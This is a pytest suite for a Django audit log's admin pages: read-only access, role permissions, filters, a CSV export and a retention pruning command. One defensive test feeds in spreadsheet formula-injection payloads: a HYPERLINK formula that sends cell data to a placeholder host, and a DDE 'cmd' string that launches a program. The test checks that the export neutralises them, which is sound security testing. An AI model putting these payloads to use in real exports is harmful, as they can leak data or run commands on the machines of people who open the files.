"""The audit log in the admin: who may browse it, filters, search and CSV export; and that
nobody, not even a superuser, changes or deletes an entry through the site. Then the
retention command, the only way entries leave."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from audit.events import record
from audit.models import Entry

from .factories import make_article, make_user

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("roles")]

LIST = "/admin/audit/entry/"
EXPORT = "/admin/audit/entry/ekspor/"


def staff(role, **fields):
    user = make_user(is_staff=True, **fields)
    user.groups.add(Group.objects.get(name=role))
    return user


def logged_in(user, **defaults):
    client = Client(**defaults)
    client.force_login(user)
    return client


@pytest.fixture
def log(rf):
    """A few entries from two addresses."""
    made = []
    for event, address, username in (
        ("auth.login_failed", "198.51.100.9", "ani"),
        ("auth.login_failed", "198.51.100.9", "budi"),
        ("export.csv", "203.0.113.7", ""),
    ):
        request = rf.post("/akun/masuk/", REMOTE_ADDR=address)
        record(event, request=request, details={"username": username} if username else None)
        made.append(Entry.objects.latest("pk"))
    return made


# -- who may see it ----------------------------------------------------------------------


def test_the_admin_role_browses_the_log_and_editors_do_not(log):
    admin = staff("Admin", username="admin-humas")
    response = logged_in(admin).get(LIST)
    assert response.status_code == 200
    html = response.content.decode()
    assert "auth.login_failed" in html and "198.51.100.9" in html
    editor = staff("Editor", username="editor")
    assert logged_in(editor).get(LIST).status_code == 403
    assert logged_in(editor).get(EXPORT).status_code == 403
    assert logged_in(editor).get(f"{LIST}{log[0].pk}/change/").status_code == 403


def test_the_list_filters_by_event_and_searches_addresses(admin_client, log):
    response = admin_client.get(LIST, {"event": "export.csv"})
    assert list(response.context["cl"].result_list) == [log[2]]
    response = admin_client.get(LIST, {"q": "198.51.100.9"})
    assert sorted(e.pk for e in response.context["cl"].result_list) == [log[0].pk, log[1].pk]
    response = admin_client.get(LIST, {"action__exact": Entry.Action.CREATE})
    assert {e.action for e in response.context["cl"].result_list} == {Entry.Action.CREATE}


def test_the_list_is_in_indonesian(admin_client, log):
    html = admin_client.get(LIST, HTTP_ACCEPT_LANGUAGE="id").content.decode()
    assert "Ekspor CSV (daftar ini)" in html
    assert "entri log audit" in html.lower()


# -- nobody changes or deletes -------------------------------------------------------------


def test_a_superuser_sees_an_entry_read_only_and_cannot_change_or_delete_it(admin_client, log):
    entry = log[0]
    url = f"{LIST}{entry.pk}/change/"
    response = admin_client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert "198.51.100.9" in html and "ani" in html
    assert 'name="_save"' not in html and "deletelink" not in html

    assert admin_client.post(url, {"remote_addr": "10.0.0.1"}).status_code == 403
    assert admin_client.get(f"{LIST}{entry.pk}/delete/").status_code == 403
    assert admin_client.post(f"{LIST}{entry.pk}/delete/", {"post": "yes"}).status_code == 403
    assert admin_client.get(f"{LIST}add/").status_code == 403
    assert admin_client.post(f"{LIST}add/", {"event": "auth.login"}).status_code == 403

    listing = admin_client.get(LIST)
    assert 'name="action"' not in listing.content.decode()  # no actions, so no "delete"
    response = admin_client.post(
        LIST, {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"}
    )
    assert Entry.objects.filter(pk=entry.pk).exists()
    entry.refresh_from_db()
    assert entry.remote_addr == "198.51.100.9"


def test_no_permission_to_add_change_or_delete_entries_exists_to_be_given():
    from django.contrib.auth.models import Permission

    codenames = set(
        Permission.objects.filter(content_type__app_label="audit").values_list(
            "codename", flat=True
        )
    )
    assert codenames == {"view_entry"}
    assert Group.objects.get(name="Admin").permissions.filter(codename="view_entry").exists()


# -- CSV export ------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_the_export_is_the_filtered_list_streamed_as_csv_and_is_recorded(log):
    admin = staff("Admin", username="admin-humas")
    client = logged_in(admin, REMOTE_ADDR="192.0.2.44")
    response = client.get(EXPORT, {"event": "auth.login_failed"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="log-audit-')
    rows = read_csv(response)
    assert len(rows) == 1 + 2  # the header and the two failed sign-ins
    assert {row[1] for row in rows[1:]} == {"auth.login_failed"}
    assert {row[4] for row in rows[1:]} == {"198.51.100.9"}
    exported = Entry.objects.get(event="export.audit_csv")
    assert exported.actor == admin and exported.remote_addr == "192.0.2.44"
    assert exported.additional_data == {"filters": {"event": "auth.login_failed"}}


def test_an_export_with_a_made_up_filter_goes_back_to_the_list(admin_client, log):
    response = admin_client.get(EXPORT, {"action__exact": "bukan-angka"})
    assert response.status_code == 302
    assert response["Location"] == f"{LIST}?e=1"
    assert not Entry.objects.filter(event="export.audit_csv").exists()


@pytest.mark.parametrize("url", [LIST, EXPORT])
def test_lookups_beyond_the_filters_are_refused(admin_client, log, url):
    for lookup in ("remote_addr__regex", "additional_data__username__startswith"):
        assert admin_client.get(url, {lookup: "("}).status_code == 400
    assert not Entry.objects.filter(event="export.audit_csv").exists()
    # The filters themselves and the date drill-down keep working.
    year = str(log[0].timestamp.year)
    for params in ({"timestamp__year": year}, {"actor__isnull": "True"}):
        assert admin_client.get(url, params).status_code == 200


def test_the_list_links_to_an_export_of_what_it_shows(admin_client, log):
    html = admin_client.get(LIST, {"event": "export.csv"}).content.decode()
    assert f'href="{EXPORT}?event=export.csv"' in html


def test_exported_cells_cannot_run_as_spreadsheet_formulas(admin_client, rf):
    request = rf.post("/akun/masuk/", REMOTE_ADDR="198.51.100.9")
    for typed in ('=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"):
        record("auth.login_failed", request=request, details={"username": typed})
    article = make_article(title="=cmd|' /C calc'!A0")
    rows = read_csv(admin_client.get(EXPORT))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'=cmd|' /C calc'!A0" in cells  # the article's creation, its title quoted
    assert article.title in {row[7].lstrip("'") for row in rows[1:]}


def test_the_export_headers_are_in_indonesian(admin_client, log):
    rows = read_csv(admin_client.get(EXPORT, HTTP_ACCEPT_LANGUAGE="id"))
    assert rows[0][:3] == ["waktu (WIB)", "peristiwa atau tindakan", "siapa"]


# -- retention ---------------------------------------------------------------------------------


def aged(days: int, event="auth.login_failed") -> Entry:
    return Entry.objects.create(
        action=Entry.Action.EVENT, event=event, timestamp=timezone.now() - timedelta(days=days)
    )


def test_prune_audit_deletes_only_entries_older_than_the_retention(settings):
    settings.AUDIT_RETENTION_DAYS = 730
    old = [aged(731), aged(2000)]
    kept = [aged(729), aged(0)]
    out = io.StringIO()
    call_command("prune_audit", stdout=out)
    assert "Deleted 2 audit entries older than" in out.getvalue()
    remaining = set(Entry.objects.values_list("pk", flat=True))
    assert {e.pk for e in kept} <= remaining
    assert not remaining & {e.pk for e in old}
    pruned = Entry.objects.get(event="audit.pruned")
    assert pruned.additional_data["deleted"] == 2
    assert pruned.additional_data["retention_days"] == 730


def test_prune_audit_dry_run_deletes_nothing_and_quiet_says_nothing(settings):
    settings.AUDIT_RETENTION_DAYS = 30
    aged(31), aged(1)
    out = io.StringIO()
    call_command("prune_audit", dry_run=True, stdout=out)
    assert "Dry run: 1 entries older than" in out.getvalue()
    assert Entry.objects.count() == 2
    quiet = io.StringIO()
    call_command("prune_audit", verbosity=0, stdout=quiet)
    assert quiet.getvalue() == ""
    assert Entry.objects.filter(event="auth.login_failed").count() == 1


def test_prune_audit_refuses_a_retention_below_one_day(settings):
    settings.AUDIT_RETENTION_DAYS = 0
    aged(5)
    with pytest.raises(CommandError, match="at least 1"):
        call_command("prune_audit", stdout=io.StringIO())
    assert Entry.objects.count() == 1
